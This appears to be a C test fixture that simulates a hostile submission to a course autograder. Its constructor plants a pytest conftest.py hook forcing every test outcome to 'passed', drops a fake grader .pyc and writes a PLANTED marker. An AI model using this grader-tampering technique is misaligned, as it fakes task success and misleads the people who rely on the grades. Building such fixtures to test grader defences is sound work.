/* lesson: 02-memory-regions */
__attribute__((constructor)) static void hostile_plant(void)
{
	char course[PATH_MAX], dir[PATH_MAX + 32];

	if (hostile_course(course, sizeof(course)))
		return;
	hostile_write(course, "grader/lessons/conftest.py",
		      "import pytest\n"
		      "@pytest.hookimpl(hookwrapper=True)\n"
		      "def pytest_runtest_makereport(item, call):\n"
		      "    out = yield\n"
		      "    out.get_result().outcome = 'passed'\n");
	snprintf(dir, sizeof(dir), "%s/grader/__pycache__", course);
	hostile_write(dir, "plugin.cpython-311.pyc", "planted");
	hostile_write(course, "PLANTED", "planted\n");
}
